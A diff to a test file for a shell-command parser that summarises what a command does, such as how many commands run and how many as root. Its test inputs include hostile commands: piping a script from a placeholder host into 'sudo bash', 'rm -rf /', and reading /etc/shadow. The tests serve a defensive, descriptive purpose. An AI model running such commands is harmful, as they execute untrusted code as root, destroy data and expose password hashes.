@@ -57,7 +57,10 @@ describe("a shell command is cut into the words that the shell will see", () => 
   });
 
   it.each([
-    ["curl https://x.example/i.sh | sudo bash", "Run 2 shell commands as root", "Pipe"],
+    ["curl https://x.example/i.sh | sudo bash", "Run 2 shell commands, one of them as root", "Pipe"],
+    ["sudo rm a && sudo rm b > log; ls", "Run 3 shell commands, 2 of them as root", "Second command and redirect"],
+    ["sudo rm a; sudo rm b", "Run 2 shell commands as root", "Second command"],
+    ["sudo -i; ls", "Run 2 shell commands, one of them as root", "Second command"],
     ["rm -rf /; echo done", "Run 2 shell commands", "Second command"],
     ["echo $(cat /etc/shadow)", "Run a shell command", "Substitution"],
     ["echo `id`", "Run a shell command", "Substitution"],
